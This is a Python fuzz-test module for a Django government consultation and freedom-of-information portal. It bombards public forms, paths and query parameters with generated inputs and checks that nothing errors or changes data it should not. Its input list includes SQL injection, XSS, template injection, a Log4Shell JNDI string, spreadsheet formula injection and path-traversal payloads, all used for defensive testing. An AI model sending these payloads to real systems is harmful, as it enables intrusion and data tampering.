"""Fuzz test of every public form and query parameter (issue 11).

Hypothesis generates what an attacker or a broken client sends: Chinese, control characters, NUL,
very long text, SQL-, HTML- and formula-like strings, wrong types, missing fields, big numbers,
repeated keys, odd content types and forwarded addresses. Whatever arrives, the site answers
below 500 and touches no data it should not: a refused form saves nothing, an accepted one adds
only its own row, and nothing else in the database changes (every table is fingerprinted before
and after each test).

The examples are drawn deterministically (derandomize or a fixed seed, no example database), so CI
runs the same inputs each time. Each test's `max_examples` is in EXAMPLES, which adds up to at least
10,000; each test checks that it really sent its share. The longest tests are split into parts (a
share of the surfaces or of the language prefixes each, with a seed of its own so that the parts
send different inputs), so that pytest-xdist spreads them over its workers instead of one worker
running a ten-minute test at the end.
"""

from __future__ import annotations

import hashlib
import string
import time
from collections import Counter
from urllib.parse import quote, urlencode

import pytest
from django.core.cache import cache
from django.db import connection
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from foi.models import Application, ApplicationEvent, Notice
from operations.models import OutgoingMessage
from opinions.models import Opinion
from participation import abuse
from participation.models import ConsultationPage, Message
from portal.demo.participation import BOARD_SLUG, CLOSED_SLUG, OPEN_SLUG

# Generated inputs per test; their sum is the module's total (at least 10,000).
EXAMPLES = {
    "test_query_parameters_of_every_listing[0]": 1000,
    "test_query_parameters_of_every_listing[1]": 1000,
    "test_query_parameters_of_every_listing[2]": 1000,
    "test_any_query_on_any_public_page[0]": 600,
    "test_any_query_on_any_public_page[1]": 600,
    "test_generated_paths": 800,
    "test_opinion_form[zh]": 500,
    "test_opinion_form[tdd]": 500,
    "test_opinion_form[kac]": 500,
    "test_opinion_form_with_captcha": 600,
    "test_closed_consultation_refuses_every_opinion": 300,
    "test_message_board_form[zh]": 500,
    "test_message_board_form[tdd]": 500,
    "test_message_board_form[kac]": 500,
    "test_lookups_by_tracking_code": 600,
    "test_foi_application_form": 500,
    "test_foi_lookup": 200,
}
MINIMUM_INPUTS = 10_000
SENT: Counter[str] = Counter()
# Submissions saved, by test: the generated forms must get past the checks often enough to test saving.
ACCEPTED: Counter[str] = Counter()

# Rows that public requests may add or change: the visitor's session (receipts) and the captcha
# challenges a form shows and an answer uses up.
ALWAYS_WRITABLE = frozenset({"django_session", "captcha_captchastore"})
OPINIONS, MESSAGES = Opinion._meta.db_table, Message._meta.db_table
# An accepted application adds its row, its RECEIVED event, its receipt and the receipt's mail.
FOI_TABLES = tuple(model._meta.db_table for model in (Application, ApplicationEvent, Notice, OutgoingMessage))


@pytest.fixture(autouse=True, scope="module")
def templates_rendered_without_recording():
    """The test client records each template's context, for assertions this module never makes;
    with ten thousand requests that copying is a good part of the run, so it is switched off here."""
    from django.template import Template
    from django.test.utils import _TestState

    recording = Template._render
    Template._render = _TestState.saved_data.template_render
    yield
    Template._render = recording


def fuzz_settings(test_name: str):
    return settings(
        max_examples=EXAMPLES[test_name],
        deadline=None,
        database=None,
        derandomize=True,
        # No shrinking: each step is a request, and the failing input is reported as it was sent.
        phases=(Phase.explicit, Phase.generate),
        suppress_health_check=list(HealthCheck),
    )


@pytest.fixture(autouse=True)
def generous_limits(settings):
    """Rate limits would refuse almost every generated submission after the first twenty (429) and
    leave the forms' own checks untested; they have tests of their own (test_opinions.py,
    test_message_board.py). One trusted proxy, so the generated X-Forwarded-For is read."""
    settings.PARTICIPATION_RATE_PER_IP = "1000000/h"
    settings.PARTICIPATION_RATE_PER_CONTACT = "1000000/h"
    settings.TRUSTED_PROXY_COUNT = 1
    cache.clear()
    yield
    cache.clear()


# --- what gets sent ------------------------------------------------------------------------------

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "\t\x0b\x0c",
    "\x1b[31m",
    "\u202e\u200b\ufeff",
    "\U00020b9f𠜎𪚥",
    "平原镇",
    "傣文ᦔᦱᧈᦐᦲ",
    "Jinghpaw ga",
    "'; DROP TABLE opinions_opinion; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    '=HYPERLINK("http://example.invalid","x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "../../../../etc/passwd",
    "%00",
    "%2e%2e%2f",
    "%ZZ",
    "0",
    "-1",
    "00000000001",
    "1e309",
    "NaN",
    "Infinity",
    "99999999999999999999999999999999",
    "-99999999999999999999999999999999",
    "²",
    "١٢٣",
    "１２３",
    "2026",
    "0x1F",
    "true",
    "on",
    "null",
    "None",
    "[]",
    "{}",
    '{"a": 1}',
    "L-AAAA-BBBB",
    "Y-2345-6789",
    "13912345678",
    "+86 (0692) 1234567",
    "citizen@example.net",
    "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn",
]

# Every printable and unprintable code point except lone surrogates, which no UTF-8 request carries.
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)
long_text = st.builds(
    lambda part, times: part * times, st.text(min_size=1, max_size=8), st.integers(50, 1200)
)
numbers = st.integers(min_value=-(10**40), max_value=10**40).map(str)
value = st.one_of(st.sampled_from(NASTY), any_text, numbers, long_text)


def key_values(keys: list[str]) -> st.SearchStrategy[list[tuple[str, str]]]:
    """Query or form pairs: the surface's own keys and stray ones, repeated or missing."""
    key = st.one_of(st.sampled_from(keys), any_text, st.sampled_from(NASTY))
    return st.lists(st.tuples(key, value), max_size=8)


def raw_query() -> st.SearchStrategy[str]:
    """Query strings as sent on the wire, broken percent escapes and all."""
    pieces = st.sampled_from(["&", "=", "&&", "==", "%", "%zz", "%00", "%ff%fe", "+", ";", "?", "#", "[]"])
    ascii_ = st.text(st.sampled_from(string.ascii_letters + string.digits + string.punctuation), max_size=20)
    return st.lists(st.one_of(pieces, ascii_), max_size=10).map("".join)


def query_string(keys: list[str]) -> st.SearchStrategy[str]:
    return st.one_of(key_values(keys).map(lambda pairs: urlencode(pairs)), raw_query())


forwarded_for = st.one_of(
    st.none(),
    st.sampled_from(
        ["203.0.113.9", "2001:db8::1", "203.0.113.9, 10.0.0.1", "", " , ", "unknown", "999.1.1.1"]
    ),
    any_text,
)


def environ(forwarded: str | None) -> dict:
    return {} if forwarded is None else {"HTTP_X_FORWARDED_FOR": forwarded}


def checked(response, test_name: str):
    SENT[test_name] += 1
    assert response.status_code < 500, response.status_code
    return response


# --- what may change ---------------------------------------------------------------------------


def highest_ids(tables: tuple[str, ...]) -> dict[str, int]:
    with connection.cursor() as cursor:
        highest = {}
        for table in tables:
            cursor.execute(f"SELECT coalesce(max(id), 0) FROM {connection.ops.quote_name(table)}")
            highest[table] = cursor.fetchone()[0]
        return highest


def table_fingerprints(up_to: dict[str, int]) -> dict[str, str]:
    """A hash of every table's rows; in the tables of `up_to`, of the rows up to that id only."""
    fingerprints = {}
    with connection.cursor() as cursor:
        for table in sorted(connection.introspection.table_names()):
            if table in ALWAYS_WRITABLE:
                continue
            where = f" WHERE id <= {int(up_to[table])}" if table in up_to else ""
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}{where}")
            rows = sorted(repr(row) for row in cursor.fetchall())
            fingerprints[table] = hashlib.sha256("\n".join(rows).encode()).hexdigest()
    return fingerprints


class TableWatch:
    """Every table's fingerprint, taken when the test's first example runs (after its own setup).
    In the tables a test's form writes to, new rows are allowed; the rows already there are not
    to change."""

    def __init__(self) -> None:
        self.up_to: dict[str, int] = {}
        self.before: dict[str, str] | None = None

    def start(self, *new_rows_allowed: str) -> None:
        if self.before is None:
            self.up_to = highest_ids(new_rows_allowed)
            self.before = table_fingerprints(self.up_to)

    def changed(self) -> list[str]:
        after = table_fingerprints(self.up_to)
        return sorted(table for table in after if after[table] != self.before.get(table))


@pytest.fixture
def untouched(demo):
    """Fails the test if any table changed other than by the new rows the test allows."""
    watch = TableWatch()
    yield watch
    if watch.before is not None:
        assert not watch.changed(), f"public requests changed {watch.changed()}"


def counts() -> tuple[int, int]:
    return Opinion.objects.count(), Message.objects.count()


# --- query parameters --------------------------------------------------------------------------

LISTINGS = [
    # (path, its own query keys)
    ("/search/", ["q", "unit", "p"]),
    ("/tdd/search/", ["q", "unit", "p"]),
    ("/kac/search/", ["q", "unit", "p"]),
    ("/zwgk/pingyuan/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
    ("/zwgk/scjg/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
    ("/tdd/zwgk/pingyuan/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
    ("/kac/zwgk/scjg/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
    ("/zwgk/xzfb/interpretations/", ["unit", "kind", "p"]),
    ("/tdd/zwgk/xzfb/interpretations/", ["unit", "kind", "p"]),
    (f"/zwgk/pingyuan/{OPEN_SLUG}/", ["article", "p"]),
    (f"/kac/zwgk/pingyuan/{OPEN_SLUG}/", ["article", "p"]),
    (f"/zwgk/scjg/{CLOSED_SLUG}/", ["article", "p"]),
    (f"/zwgk/scjg/{CLOSED_SLUG}/outcome/", ["p"]),
    (f"/zwgk/pingyuan/{BOARD_SLUG}/", ["p"]),
    ("/zwgk/ysqgk/", ["unit"]),
    ("/tdd/zwgk/ysqgk/", ["unit"]),
    (f"/tdd/zwgk/pingyuan/{BOARD_SLUG}/", ["p"]),
    ("/sitemap.xml", ["p", "section"]),
]

OTHER_PUBLIC_PAGES = [
    "/",
    "/tdd/",
    "/kac/",
    "/zwgk/",
    "/zwgk/pingyuan/",
    "/zwgk/pingyuan/rss/",
    "/zwgk/pingyuan/atom/",
    "/zwgk/pingyuan/statutory/rss/",
    "/kac/zwgk/scjg/statutory/atom/",
    "/zwgk/pingyuan/profile/",
    "/zwgk/pingyuan/catalogue/",
    "/tdd/zwgk/xzfb/catalogue/",
    "/zwgk/pingyuan/statutory/cleanup-2026/",
    "/zwgk/pingyuan/statutory/demo-2026-farmland-subsidy-notice/",
    "/zwgk/pingyuan/statutory/demo-2026-internal-personnel-matter/",
    "/zwgk/xzfb/interpretations/openness-plan-2020-questions-and-answers/",
    f"/zwgk/pingyuan/{OPEN_SLUG}/submitted/",
    f"/zwgk/pingyuan/{BOARD_SLUG}/written/",
    f"/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
    "/opinions/lookup/",
    "/tdd/opinions/lookup/",
    "/captcha/refresh/",
    "/zwgk/pingyuan/guide/",
    "/zwgk/pingyuan/ysqgk/",
    "/zwgk/pingyuan/ysqgk/submitted/",
    "/kac/zwgk/scjg/ysqgk/",
    "/foi/lookup/",
    "/foi/lookup/1/notices/1/pdf/",
    "/foi/lookup/1/files/1/",
]
METHODS = ["get", "get", "get", "head", "post", "options", "put", "delete"]
# The parts of the split tests: the listings in three parts of about the same cost, every public
# page in two, the forms by language prefix (each part's test id names it).
LISTING_PARTS = [LISTINGS[0:6], LISTINGS[6:12], LISTINGS[12:]]
ALL_PAGES = OTHER_PUBLIC_PAGES + [path for path, _keys in LISTINGS]
PAGE_PARTS = [ALL_PAGES[0::2], ALL_PAGES[1::2]]
PREFIXES = {"zh": "", "tdd": "/tdd", "kac": "/kac"}


def in_part(test_name: str, part, strategies: dict, body):
    """`body` as the hypothesis test of one part of `test_name`, with a seed of its own."""
    name = f"{test_name}[{part}]"
    digest = int.from_bytes(hashlib.sha256(name.encode()).digest()[:4], "big")
    return seed(digest)(given(**strategies)(fuzz_settings(name)(body))), name


@pytest.mark.slow
@pytest.mark.parametrize("part", range(len(LISTING_PARTS)))
def test_query_parameters_of_every_listing(client, untouched, part):
    def fuzz(client, untouched, surface, forwarded):
        path, query = surface
        untouched.start()
        checked(client.get(path, QUERY_STRING=query, **environ(forwarded)), name)

    surfaces = st.sampled_from(LISTING_PARTS[part]).flatmap(
        lambda item: st.tuples(st.just(item[0]), query_string(item[1]))
    )
    fuzz, name = in_part(
        "test_query_parameters_of_every_listing",
        part,
        {"surface": surfaces, "forwarded": forwarded_for},
        fuzz,
    )
    fuzz(client, untouched)
    assert_all_sent(name)


@pytest.mark.slow
@pytest.mark.parametrize("part", range(len(PAGE_PARTS)))
def test_any_query_on_any_public_page(client, untouched, part):
    """Pages without parameters of their own, and every page with any method."""

    def fuzz(client, untouched, path, method, query, body):
        untouched.start()
        before = counts()
        send = getattr(client, method)
        if method in ("get", "head", "options"):
            response = send(path, QUERY_STRING=query)
        else:
            response = send(
                path + "?" + query, urlencode(body), content_type="application/x-www-form-urlencoded"
            )
        checked(response, name)
        assert counts() == before

    strategies = {
        "path": st.sampled_from(PAGE_PARTS[part]),
        "method": st.sampled_from(METHODS),
        "query": query_string(["p", "q", "id", "unit", "year", "format", "lang"]),
        "body": key_values(["code", "contact", "content", "q"]),
    }
    fuzz, name = in_part("test_any_query_on_any_public_page", part, strategies, fuzz)
    fuzz(client, untouched)
    assert_all_sent(name)


segment = st.one_of(
    st.sampled_from(["zwgk", "pingyuan", "scjg", "xzfb", "statutory", "rss", "atom", OPEN_SLUG, BOARD_SLUG]),
    st.sampled_from(NASTY).map(lambda text: quote(text, safe="")),
    any_text.map(lambda text: quote(text, safe="")),
    st.sampled_from(["..", ".", "%2F", "%00", "%E4%B8", "%C0%AE", "~", "@2"]),
)


@given(
    prefix=st.sampled_from(
        ["/", "/tdd/", "/kac/", "/zwgk/", "/documents/", "/captcha/image/", "/captcha/audio/"]
    ),
    segments=st.lists(segment, max_size=5),
    document_id=st.one_of(st.none(), st.integers(-5, 10**20)),
    trailing=st.sampled_from(["/", "", ".wav", "@2/", "/rss/", "?p=2"]),
)
@fuzz_settings("test_generated_paths")
def fuzz_generated_paths(client, untouched, prefix, segments, document_id, trailing):
    """Slugs, document ids, file names and captcha keys that do not exist, or cannot."""
    untouched.start()
    parts = ([str(document_id)] if document_id is not None else []) + segments
    path = prefix + "/".join(parts) + trailing
    checked(client.get(path), "test_generated_paths")


@pytest.mark.slow
def test_generated_paths(client, untouched):
    fuzz_generated_paths(client, untouched)
    assert_all_sent("test_generated_paths")


# --- the citizens' forms -----------------------------------------------------------------------


def field(valid: st.SearchStrategy[str]) -> st.SearchStrategy:
    """A form field as sent: a valid value most of the time, else garbage, repeated, or missing."""
    return st.one_of(
        valid,
        valid,
        value,
        st.lists(st.one_of(valid, value), min_size=2, max_size=3),
        st.just(None),
    )


def started_token() -> st.SearchStrategy[str]:
    """The signed time the form was shown: usually long enough ago, sometimes too fresh, old or forged."""
    return st.one_of(
        st.integers(10, 3600).map(lambda age: abuse.form_token(now=time.time() - age)),
        st.integers(10, 3600).map(lambda age: abuse.form_token(now=time.time() - age)),
        st.sampled_from([0, 1, 2 * 24 * 3600, -3600]).map(
            lambda age: abuse.form_token(now=time.time() - age)
        ),
        value,
        st.just("1700000000:forged-signature"),
    )


contents = st.one_of(
    st.sampled_from(
        ["建议开市时间提前到早上5时半。", "路灯坏了，请修理。", "=1+1", "<b>意见</b>", "意见\x00内容"]
    ),
    any_text,
    st.text(min_size=1995, max_size=2005),
)
phones = st.one_of(
    st.sampled_from(["13912345678", "0692-1234567", "+86 139 1234 5678", "（0692）1234567", "12345"]),
    st.from_regex(r"\A\+?[0-9][0-9\- ()]{5,18}[0-9]\Z"),
)
emails = st.one_of(
    st.sampled_from(
        ["citizen@example.net", "张三@例子.中国", "a@b", "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn"]
    ),
    st.emails(),
)
ENCODINGS = ["multipart", "multipart", "urlencoded", "json", "text"]


def form_fields(**fields: st.SearchStrategy) -> st.SearchStrategy[dict]:
    return st.fixed_dictionaries({name: field(strategy) for name, strategy in fields.items()}).map(
        lambda data: {name: item for name, item in data.items() if item is not None}
    )


def post(client, url: str, data: dict, encoding: str, forwarded: str | None):
    if encoding == "multipart":
        return client.post(url, data, **environ(forwarded))
    if encoding == "urlencoded":
        return client.post(
            url,
            urlencode(data, doseq=True),
            content_type="application/x-www-form-urlencoded",
            **environ(forwarded),
        )
    if encoding == "json":
        import json

        return client.post(url, json.dumps(data), content_type="application/json", **environ(forwarded))
    return client.post(url, str(data), content_type="text/plain; charset=gb18030", **environ(forwarded))


def opinion_fields(page) -> st.SearchStrategy[dict]:
    articles = [str(pk) for pk in page.canonical.articles.values_list("pk", flat=True)]
    return form_fields(
        article=st.sampled_from(["", *articles]),
        content=contents,
        stance=st.sampled_from(["support", "neutral", "oppose"]),
        name=st.one_of(st.just("张三"), st.text(max_size=55)),
        publish_name=st.sampled_from(["on", ""]),
        phone=phones,
        email=emails,
        consent=st.just("on"),
        website=st.just(""),
        started=started_token(),
    )


def assert_only_own_row(
    response, before: tuple[int, int], table_index: int, receipt: str, data: dict, test_name: str
):
    """A refused form saves nothing; an accepted one (a redirect to its receipt) saves one row, its own."""
    after = counts()
    accepted = response.status_code == 302 and response["Location"].endswith(receipt)
    expected = list(before)
    if accepted:
        expected[table_index] += 1
    assert list(after) == expected, (response.status_code, before, after)
    if accepted:
        model = (Opinion, Message)[table_index]
        row = model.objects.order_by("-id").first()
        sent = data["content"] if isinstance(data["content"], str) else data["content"][-1]
        assert row.content == sent.strip()
        ACCEPTED[test_name] += 1
    return accepted


def consultation(slug: str, language: str = "zh-hans") -> ConsultationPage:
    return ConsultationPage.objects.get(slug=slug, locale__language_code=language)


@pytest.fixture
def open_consultation(demo):
    return consultation(OPEN_SLUG)


@pytest.mark.slow
@pytest.mark.parametrize("language", PREFIXES)
def test_opinion_form(client, untouched, open_consultation, language):
    def fuzz(client, untouched, open_consultation, data, encoding, forwarded):
        untouched.start(OPINIONS)
        form = data.draw(opinion_fields(open_consultation))
        before = counts()
        url = f"{PREFIXES[language]}/zwgk/pingyuan/{OPEN_SLUG}/submit/"
        response = checked(post(client, url, form, encoding, forwarded), name)
        assert_only_own_row(response, before, 0, "/submitted/", form, name)

    strategies = {"data": st.data(), "encoding": st.sampled_from(ENCODINGS), "forwarded": forwarded_for}
    fuzz, name = in_part("test_opinion_form", language, strategies, fuzz)
    fuzz(client, untouched, open_consultation)
    assert_all_sent(name, saves=True)


@given(data=st.data(), captcha=st.sampled_from(["right", "right", "wrong", "missing", "unknown key"]))
@fuzz_settings("test_opinion_form_with_captcha")
def fuzz_opinion_form_with_captcha(client, untouched, open_consultation, data, captcha):
    from captcha.models import CaptchaStore

    if untouched.before is None:
        ConsultationPage.objects.filter(translation_key=open_consultation.translation_key).update(
            captcha_required=True
        )
    untouched.start(OPINIONS)
    form = data.draw(opinion_fields(open_consultation))
    hashkey = CaptchaStore.generate_key()
    answer = CaptchaStore.objects.get(hashkey=hashkey).response
    if captcha == "right":
        form.update(
            captcha_0=hashkey, captcha_1=data.draw(st.sampled_from([answer, answer.upper(), f" {answer} "]))
        )
    elif captcha == "wrong":
        form.update(captcha_0=hashkey, captcha_1=data.draw(value))
    elif captcha == "unknown key":
        form.update(captcha_0=data.draw(value), captcha_1=answer)
    before = counts()
    response = checked(
        client.post(f"/zwgk/pingyuan/{OPEN_SLUG}/submit/", form), "test_opinion_form_with_captcha"
    )
    accepted = assert_only_own_row(response, before, 0, "/submitted/", form, "test_opinion_form_with_captcha")
    if captcha in ("wrong", "missing", "unknown key"):
        assert not accepted


@pytest.mark.slow
def test_opinion_form_with_captcha(client, untouched, open_consultation):
    fuzz_opinion_form_with_captcha(client, untouched, open_consultation)
    assert_all_sent("test_opinion_form_with_captcha", saves=True)


@given(data=st.data(), encoding=st.sampled_from(ENCODINGS))
@fuzz_settings("test_closed_consultation_refuses_every_opinion")
def fuzz_closed_consultation_refuses_every_opinion(client, untouched, demo, data, encoding):
    page = consultation(CLOSED_SLUG)
    untouched.start()
    form = data.draw(opinion_fields(page))
    before = counts()
    response = checked(
        post(client, f"/zwgk/scjg/{CLOSED_SLUG}/submit/", form, encoding, None),
        "test_closed_consultation_refuses_every_opinion",
    )
    assert response.status_code in (302, 403)
    assert counts() == before


@pytest.mark.slow
def test_closed_consultation_refuses_every_opinion(client, untouched, demo):
    fuzz_closed_consultation_refuses_every_opinion(client, untouched, demo)
    assert_all_sent("test_closed_consultation_refuses_every_opinion")


@pytest.mark.slow
@pytest.mark.parametrize("language", PREFIXES)
def test_message_board_form(client, untouched, demo, language):
    def fuzz(client, untouched, demo, form, encoding, forwarded):
        untouched.start(MESSAGES)
        before = counts()
        url = f"{PREFIXES[language]}/zwgk/pingyuan/{BOARD_SLUG}/write/"
        response = checked(post(client, url, form, encoding, forwarded), name)
        assert_only_own_row(response, before, 1, "/written/", form, name)

    strategies = {
        "form": form_fields(
            subject=st.one_of(st.just("路灯不亮"), st.text(max_size=105)),
            content=contents,
            name=st.one_of(st.just("李四"), st.text(max_size=55)),
            phone=phones,
            email=emails,
            consent=st.just("on"),
            website=st.just(""),
            started=started_token(),
        ),
        "encoding": st.sampled_from(ENCODINGS),
        "forwarded": forwarded_for,
    }
    fuzz, name = in_part("test_message_board_form", language, strategies, fuzz)
    fuzz(client, untouched, demo)
    assert_all_sent(name, saves=True)


@given(
    url=st.sampled_from(
        [
            "/opinions/lookup/",
            "/tdd/opinions/lookup/",
            f"/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
            f"/kac/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
        ]
    ),
    form=form_fields(
        code=st.one_of(
            st.sampled_from(["Y-2345-6789", "l 2345 6789", "Ｌ－２３４５－６７８９", "L-AAAA-BBBB"]),
            st.text(max_size=35),
        ),
        contact=st.one_of(phones, emails, st.text(max_size=260)),
    ),
    encoding=st.sampled_from(ENCODINGS),
    forwarded=forwarded_for,
)
@fuzz_settings("test_lookups_by_tracking_code")
def fuzz_lookups_by_tracking_code(client, untouched, url, form, encoding, forwarded):
    untouched.start()
    before = counts()
    checked(post(client, url, form, encoding, forwarded), "test_lookups_by_tracking_code")
    assert counts() == before


@pytest.mark.slow
def test_lookups_by_tracking_code(client, untouched):
    fuzz_lookups_by_tracking_code(client, untouched)
    assert_all_sent("test_lookups_by_tracking_code")


# --- 依申请公开 -----------------------------------------------------------------------------------

FOI_CITIZEN = {
    "applicant_kind": "citizen",
    "name": "王五",
    "id_kind": "resident_id",
    "id_number": "533122199003071236",
    "phone": "13812345670",
    "email": "applicant@example.net",
    "address": "盈江县平原镇允燕路18号",
    "postcode": "679300",
    "description": "请公开2025年农村危房改造补助名单。",
    "delivery_method": "email",
    "carrier": "electronic",
    "consent": "on",
    "website": "",
}
FOI_ORGANISATION = {
    **FOI_CITIZEN,
    "applicant_kind": "organisation",
    "organisation_kind": "commercial",
    "name": "盈江县某某商贸有限公司",
    "legal_representative": "赵六",
    "id_kind": "credit_code",
    "id_number": "91533122ma6n00001u",
}
FOI_FIELD_VALUES = {
    "applicant_kind": st.sampled_from(["citizen", "organisation", "公民", ""]),
    "organisation_kind": st.sampled_from(["commercial", "research", "other", "x"]),
    "id_kind": st.sampled_from(["resident_id", "passport", "credit_code", "other", "unknown"]),
    "id_number": st.one_of(
        st.sampled_from(["533122199003071235", "53312219900307123x", "E12345678", "91533122MA6N00001A"]),
        st.text(max_size=45),
    ),
    "phone": phones,
    "email": emails,
    "postcode": st.one_of(st.from_regex(r"\A[0-9]{6}\Z"), st.text(max_size=8)),
    "description": contents,
    "delivery_method": st.sampled_from(["post", "email", "pick_up", "on_site", "fax"]),
    "carrier": st.sampled_from(["paper", "electronic", "stone"]),
}


def foi_application_fields(draw) -> dict:
    """A valid applicant (公民 or 法人) with each field, now and then, replaced as `field` sends it:
    garbage, repeated or missing. Mostly valid, so that the saving is tested too."""
    base = draw(st.sampled_from([FOI_CITIZEN, FOI_ORGANISATION]))
    form = {}
    for name, valid in base.items():
        strategy = FOI_FIELD_VALUES.get(name, st.just(valid))
        sent = draw(st.one_of(*[st.just(valid)] * 6, field(strategy)))
        if sent is not None:
            form[name] = sent
    form["started"] = draw(started_token())
    return form


@given(data=st.data(), encoding=st.sampled_from(ENCODINGS), forwarded=forwarded_for)
@fuzz_settings("test_foi_application_form")
def fuzz_foi_application_form(client, untouched, demo, data, encoding, forwarded):
    untouched.start(*FOI_TABLES)
    prefix = data.draw(st.sampled_from(["", "/tdd", "/kac"]))
    unit = data.draw(st.sampled_from(["pingyuan", "scjg"]))
    form = foi_application_fields(data.draw)
    before = Application.objects.count()
    response = checked(
        post(client, f"{prefix}/zwgk/{unit}/ysqgk/", form, encoding, forwarded), "test_foi_application_form"
    )
    accepted = response.status_code == 302 and response["Location"].endswith("/ysqgk/submitted/")
    assert Application.objects.count() == before + (1 if accepted else 0)
    if accepted:
        row = Application.objects.order_by("-id").first()
        sent = form["description"] if isinstance(form["description"], str) else form["description"][-1]
        assert row.description == sent.strip() and row.unit.slug == unit
        ACCEPTED["test_foi_application_form"] += 1


@pytest.mark.slow
def test_foi_application_form(client, untouched, demo):
    fuzz_foi_application_form(client, untouched, demo)
    assert_all_sent("test_foi_application_form", saves=True)


@given(
    url=st.sampled_from(["/foi/lookup/", "/tdd/foi/lookup/", "/kac/foi/lookup/"]),
    form=form_fields(
        code=st.one_of(
            st.sampled_from(["F-2345-6789", "f 2345 6789", "Ｆ－２３４５－６７８９"]), st.text(max_size=35)
        ),
        last_four=st.one_of(st.from_regex(r"\A[0-9X]{4}\Z"), st.text(max_size=12)),
    ),
    encoding=st.sampled_from(ENCODINGS),
    forwarded=forwarded_for,
)
@fuzz_settings("test_foi_lookup")
def fuzz_foi_lookup(client, untouched, url, form, encoding, forwarded):
    untouched.start()
    checked(post(client, url, form, encoding, forwarded), "test_foi_lookup")


@pytest.mark.slow
def test_foi_lookup(client, untouched):
    fuzz_foi_lookup(client, untouched)
    assert_all_sent("test_foi_lookup")


def assert_all_sent(test_name: str, *, saves: bool = False) -> None:
    """Counted as sent, not as declared: each test checks its own quota, so the module's total
    holds however pytest-xdist spreads the tests over its workers. A form's generated submissions
    must also get past the checks sometimes, or only the checks were tested."""
    assert SENT[test_name] >= EXAMPLES[test_name], (test_name, SENT[test_name])
    if saves:
        assert 0 < ACCEPTED[test_name] < SENT[test_name], (test_name, ACCEPTED[test_name])


def test_at_least_ten_thousand_generated_inputs_are_sent():
    assert sum(EXAMPLES.values()) >= MINIMUM_INPUTS


# --- what the fuzzing found: each was a server error -------------------------------------------

LONG_EMAIL = "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn"


def test_a_listing_filter_in_other_digits_is_ignored(client, demo):
    # "²".isdigit() is true, but int("²") fails.
    for query in ({"year": "²"}, {"subject": "²"}, {"year": "١٢٣", "subject": "１２３"}):
        assert client.get("/zwgk/pingyuan/statutory/", query).status_code == 200


def test_search_with_a_nul_character_answers_the_page(client, demo):
    response = client.get("/search/", {"q": "平原\x00镇", "unit": "ping\x00yuan"})
    assert response.status_code == 200


def test_a_forwarded_address_that_is_no_address_counts_as_the_connection(client, demo, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    for forwarded in ("unknown", "999.1.1.1", "<script>", "203.0.113.9, 平原镇"):
        response = client.post(
            "/opinions/lookup/",
            {"code": "Y-2345-6789", "contact": "13912345678"},
            HTTP_X_FORWARDED_FOR=forwarded,
        )
        assert response.status_code == 404


def test_an_email_too_long_to_be_kept_is_refused_in_chinese(client, demo):
    assert len(LONG_EMAIL) > 254
    before = counts()
    board = client.post(
        f"/zwgk/pingyuan/{BOARD_SLUG}/write/",
        {
            "subject": "路灯不亮",
            "content": "村口路灯坏了。",
            "email": LONG_EMAIL,
            "consent": "on",
            "started": abuse.form_token(now=time.time() - 10),
        },
    )
    opinion = client.post(
        f"/zwgk/pingyuan/{OPEN_SLUG}/submit/",
        {
            "content": "建议开市时间提前。",
            "stance": "support",
            "email": LONG_EMAIL,
            "consent": "on",
            "started": abuse.form_token(now=time.time() - 10),
        },
    )
    for response in (board, opinion):
        assert response.status_code == 400
        assert "电子邮箱不能超过 254 个字符" in response.content.decode()
    assert counts() == before
